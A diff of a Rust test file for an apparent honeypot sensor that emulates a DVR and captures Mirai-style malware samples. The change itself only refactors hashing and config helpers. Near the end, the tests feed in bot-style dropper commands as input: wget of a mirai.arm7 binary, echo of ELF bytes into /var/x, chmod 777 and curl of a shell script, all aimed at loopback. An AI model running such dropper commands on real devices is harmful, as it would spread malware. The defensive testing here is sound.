@@ -13,7 +13,6 @@ mod util;
 
 use std::collections::BTreeSet;
 
-use sha2::{Digest, Sha256};
 use util::mirai::{loader, Method};
 use util::{source, synthetic_elf, Sensor};
 
@@ -92,7 +91,6 @@ fn loader_completes_on_every_profile_and_upload_path() {
 /// probe files are stored once per content.
 #[test]
 fn echo_dropper_is_captured_as_a_sample() {
-    use sha2::{Digest, Sha256};
     use std::os::unix::fs::PermissionsExt;
     // An ARM ELF header, then a Mirai-style table (key 0x22) among decoy bytes.
     let mut binary = synthetic_elf((1, 1, 40), 600);
@@ -112,10 +110,7 @@ fn echo_dropper_is_captured_as_a_sample() {
         entry(s, true);
     }
     binary.resize(1240, 0x5a);
-    let sha: String = Sha256::digest(&binary)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect();
+    let sha = util::sha256_hex(&binary);
     let sensor = Sensor::start_with(&config("xiongmai-dvr", "[]"));
     for round in 0..2 {
         let stream = util::tcp_from(sensor.addr, source(50 + round)).unwrap();
@@ -215,6 +210,14 @@ fn samples_quota_is_an_event_not_a_crash() {
     assert_eq!(stored, ["/tmp/a"]);
 }
 
+/// A sensor config with fetching on and only 127.0.0.1 allowed (the test's own
+/// servers); `top` adds top-level keys.
+fn fetch_config(top: &str) -> String {
+    format!(
+        "profile = \"xiongmai-dvr\"\n{top}[fetch]\nenabled = true\nallow = [\"127.0.0.1/32\"]\ntimeout = \"10s\"\n"
+    )
+}
+
 /// A loopback HTTP server (the only kind of host a test lets the sensor fetch from) on
 /// each of `listeners`: answers from `routes` and reports every `address path` it saw.
 fn http_server(
@@ -265,10 +268,7 @@ fn http_server(
 #[test]
 fn fetching_downloads_what_the_bot_asks_for_and_its_second_stage() {
     let binary = synthetic_elf((1, 1, 40), 2000);
-    let sha: String = Sha256::digest(&binary)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect();
+    let sha = util::sha256_hex(&binary);
     // The same port on 127.0.0.1 (allowed) and 127.0.0.2 (loopback, but not allowed).
     let allowed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = allowed.local_addr().unwrap().port();
@@ -286,12 +286,7 @@ fn fetching_downloads_what_the_bot_asks_for_and_its_second_stage() {
             ("/x.arm7".to_string(), binary.clone()),
         ],
     );
-    let config = "profile = \"xiongmai-dvr\"\n\
-                  [fetch]\n\
-                  enabled = true\n\
-                  allow = [\"127.0.0.1/32\"]\n\
-                  timeout = \"10s\"\n";
-    let sensor = Sensor::start_with(config);
+    let sensor = Sensor::start_with(&fetch_config(""));
     let mut client = sensor.connect();
     client.login();
     let denied_url = format!("http://127.0.0.2:{port}/denied.sh");
@@ -395,18 +390,9 @@ fn tftp_server(body: Vec<u8>) -> (u16, std::thread::JoinHandle<String>) {
 #[test]
 fn fetching_over_tftp_lands_the_binary_as_a_sample() {
     let binary = synthetic_elf((1, 1, 40), 1500);
-    let sha: String = Sha256::digest(&binary)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect();
+    let sha = util::sha256_hex(&binary);
     let (port, server) = tftp_server(binary.clone());
-    let config = "profile = \"xiongmai-dvr\"\n\
-                  download_tools = [\"tftp\"]\n\
-                  [fetch]\n\
-                  enabled = true\n\
-                  allow = [\"127.0.0.1/32\"]\n\
-                  timeout = \"10s\"\n";
-    let sensor = Sensor::start_with(config);
+    let sensor = Sensor::start_with(&fetch_config("download_tools = [\"tftp\"]\n"));
     let mut client = sensor.connect();
     client.login();
     client.send(
@@ -455,10 +441,7 @@ fn a_file_being_written_survives_a_crash_of_the_sensor() {
         .to_string();
     let dir = sensor.kill9();
     let partial = b"\x7fELF\x01\x01\x01\x00".to_vec();
-    let sha: String = Sha256::digest(&partial)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect();
+    let sha = util::sha256_hex(&partial);
     let sensor = Sensor::start_in(dir, config);
     let events = sensor.wait_for_events("the recovered file", |e| {
         e.iter()
@@ -542,17 +525,9 @@ fn ftp_server(body: Vec<u8>) -> (u16, std::thread::JoinHandle<Vec<String>>) {
 #[test]
 fn fetching_over_ftp_lands_the_binary_as_a_sample() {
     let binary = synthetic_elf((1, 1, 40), 9000);
-    let sha: String = Sha256::digest(&binary)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect();
+    let sha = util::sha256_hex(&binary);
     let (port, server) = ftp_server(binary.clone());
-    let config = "profile = \"xiongmai-dvr\"\n\
-                  [fetch]\n\
-                  enabled = true\n\
-                  allow = [\"127.0.0.1/32\"]\n\
-                  timeout = \"10s\"\n";
-    let sensor = Sensor::start_with(config);
+    let sensor = Sensor::start_with(&fetch_config(""));
     let mut client = sensor.connect();
     client.login();
     client.send(
@@ -611,10 +586,7 @@ fn export(dir: &std::path::Path, args: &[&str]) -> String {
 fn exports_list_the_indicators_the_sessions_left() {
     let sensor = Sensor::start_with("profile = \"xiongmai-dvr\"\n");
     let payload = b"\x7fELF\x01\x01";
-    let sha: String = Sha256::digest(payload)
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect();
+    let sha = util::sha256_hex(payload);
     for (i, line) in [
         "wget http://127.0.0.1:80/bins/mirai.arm7; /bin/busybox IHCCE\r\n",
         "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > /var/x; chmod 777 /var/x; curl -O http://127.0.0.1/c.sh\r\n",
